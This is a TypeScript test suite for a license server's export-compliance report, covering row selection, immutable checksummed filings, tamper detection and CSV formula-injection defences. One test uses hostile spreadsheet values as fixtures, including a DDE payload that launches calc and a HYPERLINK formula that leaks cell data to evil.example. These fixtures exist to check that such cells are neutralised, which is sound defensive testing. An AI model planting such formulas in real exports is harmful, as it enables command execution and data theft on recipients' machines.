import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import type { Pool } from 'mysql2/promise';
import { issueLicense } from './support/admin.js';
import { request } from './support/http.js';
import { newMachine } from './support/machines.js';
import { PortalClient, text } from './support/portal.js';
import { behindTheTriggers } from './support/record-triggers.js';
import { openDb, startServer, startServerWorld, type ServerWorld, type TestServer } from './support/server.js';

describe('export-compliance report', () => {
  let server: TestServer;
  before(async () => {
    server = await startServer();
  });
  after(() => server.close());

  const admin = (path: string, body?: unknown) => request(`${server.url}${path}`, { body, method: body === undefined ? 'GET' : 'POST', token: server.adminToken });

  async function download(id: number, format: 'csv' | 'json') {
    const res = await fetch(`${server.url}/v1/admin/reports/${id}.${format}`, { headers: { authorization: `Bearer ${server.adminToken}` } });
    return { status: res.status, type: res.headers.get('content-type'), body: Buffer.from(await res.arrayBuffer()) };
  }

  it('lists non-U.S. businesses that bought or registered, not U.S. ones nor individuals, exactly as computed by hand', async () => {
    const db = await openDb(server.config.databaseUrl);
    try {
      const quayside = await issueLicense(server, 5, {
        customer: { type: 'business', name: 'Ingrid Holm', organization: 'Quayside, "Nordic" AS', address: 'Bryggen 1\n5003 Bergen', country: 'NO' },
      });
      await issueLicense(server, 2, { customer: { type: 'business', name: 'Sam Ortiz', organization: 'Acme Corp', address: '1 Main St, Springfield', country: 'US' } });
      await issueLicense(server, 1, { customer: { type: 'individual', name: 'Jean Dupont', address: '3 rue de la Paix, Paris', country: 'FR' } });
      await issueLicense(server, 3, { customer: { type: 'business', name: 'Ana Rivera', organization: 'Isla Ltd', address: 'San Juan', country: 'PR' } });
      // A business that deleted its account before any report was filed: an empty tombstone, left out.
      const erased = await issueLicense(server, 2, { customer: { type: 'business', name: 'Gone AB', organization: 'Gone AB', address: 'Gatan 1, Malmö', country: 'SE' } });
      await db.query("UPDATE customers c JOIN licenses l ON l.customer_id = c.id SET c.status = 'deleted', c.name = '', c.organization = NULL, c.address = '' WHERE l.id = ?", [erased.id]);
      // A registration: a trial claimed in MyAccount by a business in Japan.
      const trial = await request(`${server.url}/v1/trials`, { body: { fingerprint: newMachine() } });
      const [customer] = await db.query(
        "INSERT INTO customers (type, name, organization, address, country) VALUES ('business', 'Kenji Sato', 'Sato Shoji KK', '1-1 Marunouchi, Tokyo', 'JP')",
      );
      await db.query('UPDATE licenses SET customer_id = ?, claimed_at = NOW(3) WHERE id = ?', [(customer as { insertId: number }).insertId, trial.body.license.id]);

      const today = new Date().toISOString().slice(0, 10);
      const filed = await admin('/v1/admin/reports/export', { from: today, to: today });
      assert.equal(filed.status, 201);
      assert.equal(filed.body.report.rows, 2);

      const classification = '"ECCN 5D992.c (mass market, ENC 740.17(b)(1))"';
      const expected =
        'event,date,organization,contact_name,address,country,license_id,license_kind,seats,encryption_classification\r\n' +
        `purchase,${today},"Quayside, ""Nordic"" AS",Ingrid Holm,"Bryggen 1\n5003 Bergen",NO,${quayside.id},permanent,5,${classification}\r\n` +
        `registration,${today},Sato Shoji KK,Kenji Sato,"1-1 Marunouchi, Tokyo",JP,${trial.body.license.id},trial,1,${classification}\r\n`;
      const csv = await download(filed.body.report.id, 'csv');
      assert.equal(csv.status, 200);
      assert.equal(csv.type, 'text/csv; charset=utf-8');
      assert.equal(csv.body.toString('utf8'), expected);
      assert.equal(createHash('sha256').update(csv.body).digest('hex'), filed.body.report.checksum);

      const json = JSON.parse((await download(filed.body.report.id, 'json')).body.toString('utf8'));
      assert.equal(json.report.csvSha256, filed.body.report.checksum);
      assert.deepEqual(json.rows.map((r: { organization: string; country: string; event: string }) => [r.event, r.organization, r.country]), [
        ['purchase', 'Quayside, "Nordic" AS', 'NO'],
        ['registration', 'Sato Shoji KK', 'JP'],
      ]);
    } finally {
      await db.end();
    }
  });

  it('never changes a filed report: every download is byte-identical, whatever happens to the accounts', async () => {
    const db = await openDb(server.config.databaseUrl);
    try {
      const license = await issueLicense(server, 1, { customer: { type: 'business', name: 'Lena Berg', organization: 'Berg GmbH', address: 'Hauptstr. 1, Berlin', country: 'DE' } });
      const today = new Date().toISOString().slice(0, 10);
      const filed = await admin('/v1/admin/reports/export', { from: today, to: today });
      const first = await download(filed.body.report.id, 'csv');
      const firstJson = await download(filed.body.report.id, 'json');
      await db.query("UPDATE customers c JOIN licenses l ON l.customer_id = c.id SET c.name = 'Changed', c.address = 'Elsewhere' WHERE l.id = ?", [license.id]);
      const again = await download(filed.body.report.id, 'csv');
      assert.ok(again.body.equals(first.body));
      assert.ok((await download(filed.body.report.id, 'json')).body.equals(firstJson.body));
      assert.match(first.body.toString(), /Lena Berg/);
    } finally {
      await db.end();
    }
  });

  it('files cells a spreadsheet would run as formulas with a leading quote, and keeps older filings as they were filed', async () => {
    const db = await openDb(server.config.databaseUrl);
    try {
      const hostile = { type: 'business', name: '@SUM(1+1)*cmd|\' /C calc\'!A0', organization: '=HYPERLINK("http://evil.example/?leak="&A1,"Open")', address: '+1 Road', country: 'DK' };
      const tabbed = { type: 'business', name: '\tTab Person', organization: '-2+3 ApS', address: '\r2 Lane', country: 'DK' };
      const first = await issueLicense(server, 1, { customer: hostile });
      const second = await issueLicense(server, 1, { customer: tabbed });
      const today = new Date().toISOString().slice(0, 10);
      const filed = await admin('/v1/admin/reports/export', { from: today, to: today });
      assert.equal(filed.status, 201);
      const csv = (await download(filed.body.report.id, 'csv')).body;
      const lines = csv.toString('utf8').split('\r\n');
      const row = (licenseId: number) => lines.find((l) => l.includes(`,DK,${licenseId},permanent,`)) ?? '';
      assert.ok(row(first.id).startsWith(`purchase,${today},"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Open"")",'@SUM(1+1)*cmd|' /C calc'!A0,'+1 Road,DK,${first.id},`), row(first.id));
      assert.ok(row(second.id).startsWith(`purchase,${today},'-2+3 ApS,'\tTab Person,"'\r2 Lane",DK,${second.id},`), JSON.stringify(row(second.id)));
      // The checksum covers the neutralised bytes, and every download gives them again.
      assert.equal(createHash('sha256').update(csv).digest('hex'), filed.body.report.checksum);
      assert.ok((await download(filed.body.report.id, 'csv')).body.equals(csv));
      // JSON keeps the values as given.
      const json = JSON.parse((await download(filed.body.report.id, 'json')).body.toString('utf8'));
      const rows = json.rows.filter((r: { country: string }) => r.country === 'DK');
      assert.deepEqual(rows.map((r: { organization: string; contactName: string; address: string }) => [r.organization, r.contactName, r.address]), [
        [hostile.organization, hostile.name, hostile.address],
        [tabbed.organization, tabbed.name, tabbed.address],
      ]);

      // A report filed before formulas were neutralised (format 1) renders as it was filed, matching its stored checksum.
      const [[stored]] = (await db.query('SELECT csv_format FROM export_reports WHERE id = ?', [filed.body.report.id])) as unknown as [{ csv_format: number }[]];
      assert.equal(stored!.csv_format, 2);
      // What the code before format 2 wrote for the same rows: the cells without their quote.
      const asFiledBefore = csv.toString('utf8').replace(/(^|,)("?)'(?=[=+\-@\t\r])/gm, '$1$2');
      assert.match(asFiledBefore, /,"=HYPERLINK\(""http/);
      // Such a report was filed before the chain, too: it stands outside it.
      await behindTheTriggers(db, ['export_reports'], () => db.query(
        'UPDATE export_reports SET csv_format = 1, csv_sha256 = ?, chain_position = NULL, prev_hash = NULL, chain_hash = NULL WHERE id = ?',
        [createHash('sha256').update(asFiledBefore).digest('hex'), filed.body.report.id],
      ));
      const old = await download(filed.body.report.id, 'csv');
      assert.equal(old.body.toString('utf8'), asFiledBefore);
      const res = await fetch(`${server.url}/v1/admin/reports/${filed.body.report.id}.csv`, { headers: { authorization: `Bearer ${server.adminToken}` } });
      assert.equal(res.headers.get('x-csv-sha256'), createHash('sha256').update(Buffer.from(await res.arrayBuffer())).digest('hex'));
    } finally {
      await db.end();
    }
  });

  it('refuses a period that ends before it starts, a bad date, and an unknown report, each with a code', async () => {
    const backwards = await admin('/v1/admin/reports/export', { from: '2026-07-01', to: '2026-01-01' });
    assert.equal(backwards.status, 400);
    assert.equal(backwards.body.error.code, 'PERIOD_INVALID');
    const bad = await admin('/v1/admin/reports/export', { from: '2026-02-30x', to: '2026-03-01' });
    assert.equal(bad.status, 400);
    const missing = await admin('/v1/admin/reports/987654.csv');
    assert.equal(missing.status, 404);
    assert.equal(missing.body.error.code, 'REPORT_NOT_FOUND');
    const unauth = await request(`${server.url}/v1/admin/reports/1.csv`);
    assert.equal(unauth.status, 401);
  });
});

describe('filed export reports as records', () => {
  let server: TestServer;
  let db: Pool;
  let world: ServerWorld;
  before(async () => {
    world = await startServerWorld();
    ({ server, db } = world);
  });
  after(() => world?.close());

  const today = new Date().toISOString().slice(0, 10);
  const file = async () => {
    const res = await request(`${server.url}/v1/admin/reports/export`, { body: { from: today, to: today }, token: server.adminToken });
    assert.equal(res.status, 201);
    return res.body.report as { id: number; checksum: string };
  };
  const download = async (id: number, format: 'csv' | 'json') => {
    const res = await fetch(`${server.url}/v1/admin/reports/${id}.${format}`, { headers: { authorization: `Bearer ${server.adminToken}` } });
    return { status: res.status, chain: res.headers.get('x-report-chain'), body: Buffer.from(await res.arrayBuffer()) };
  };
  const reportsPage = async () => {
    const client = new PortalClient(server.url);
    await client.post('/admin/login', { token: server.adminToken });
    return text((await client.get('/admin/reports')).html);
  };

  it('the database refuses to change or delete a filed report, its rows, or its checksum', async () => {
    await issueLicense(server, 1, { customer: { type: 'business', name: 'Ida Holm', organization: 'Holm AB', address: 'Storgatan 2, Lund', country: 'SE' } });
    const report = await file();
    const refused = /filed (record|export report)|filed report cannot/;
    await assert.rejects(db.query("UPDATE export_report_rows SET organization = 'Someone Else' WHERE report_id = ?", [report.id]), refused);
    await assert.rejects(db.query('DELETE FROM export_report_rows WHERE report_id = ?', [report.id]), refused);
    await assert.rejects(db.query("UPDATE export_reports SET csv_sha256 = REPEAT('0', 64) WHERE id = ?", [report.id]), refused);
    await assert.rejects(db.query('DELETE FROM export_reports WHERE id = ?', [report.id]), refused);
    const again = await download(report.id, 'csv');
    assert.equal(again.status, 200);
    assert.equal(createHash('sha256').update(again.body).digest('hex'), report.checksum);
    assert.equal(again.chain, 'intact');
  });

  it('refuses to send rows changed behind the triggers, and marks the report for staff in /admin/reports', async () => {
    await issueLicense(server, 1, { customer: { type: 'business', name: 'Ole Dahl', organization: 'Dahl AS', address: 'Kirkegata 3, Oslo', country: 'NO' } });
    const report = await file();
    assert.equal((await download(report.id, 'csv')).status, 200);
    await behindTheTriggers(db, ['export_report_rows'], () =>
      db.query("UPDATE export_report_rows SET organization = 'Innocent Ltd' WHERE report_id = ? AND organization = 'Dahl AS'", [report.id]));
    for (const format of ['csv', 'json'] as const) {
      const res = await download(report.id, format);
      assert.equal(res.status, 409, `${format}: refused`);
      const error = JSON.parse(res.body.toString('utf8')).error;
      assert.equal(error.code, 'REPORT_TAMPERED');
      assert.doesNotMatch(res.body.toString('utf8'), /Innocent Ltd/);
    }
    const page = await reportsPage();
    assert.match(page, new RegExp(`Report ${report.id}: the rows of report ${report.id} no longer make its filed checksum`));
    assert.match(page, /TAMPERED/);
  });

  it('shows a deleted filing as a break in the chain, on /admin/reports and on the next download', async () => {
    const first = await file();
    const middle = await file();
    const last = await file();
    assert.equal((await download(last.id, 'csv')).chain, 'intact');
    assert.match(await reportsPage(), /chain of filed reports is intact/);
    await behindTheTriggers(db, ['export_reports', 'export_report_rows'], async () => {
      await db.query('DELETE FROM export_report_rows WHERE report_id = ?', [middle.id]);
      await db.query('DELETE FROM export_reports WHERE id = ?', [middle.id]);
    });
    const next = await download(last.id, 'csv');
    assert.equal(next.status, 200, 'its own rows are as filed');
    assert.equal(next.chain, 'broken');
    assert.equal((await download(first.id, 'csv')).chain, 'broken');
    const page = await reportsPage();
    assert.match(page, /chain of filed reports is broken/);
    assert.match(page, new RegExp(`the filing before report ${last.id} \\(chain position \\d+\\) is missing or was changed`));
  });
});
